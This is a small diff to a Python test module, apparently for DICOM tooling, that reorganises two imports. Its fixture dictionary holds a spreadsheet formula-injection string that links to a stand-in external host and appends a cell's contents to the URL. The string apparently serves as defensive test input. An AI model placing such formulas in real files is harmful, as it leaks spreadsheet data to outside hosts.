@@ -6,9 +6,10 @@ import random
 import warnings
 from pathlib import Path
 
-from dicom_maker import dataset_of
 from pydicom.datadict import tag_for_keyword
-from specimens import smooth
+
+from tests.fakes.dicom_maker import dataset_of
+from tests.reliability.specimens import smooth
 
 TEXTS = {
     "formula": '=HYPERLINK("http://example.org/"&A1,"x")',
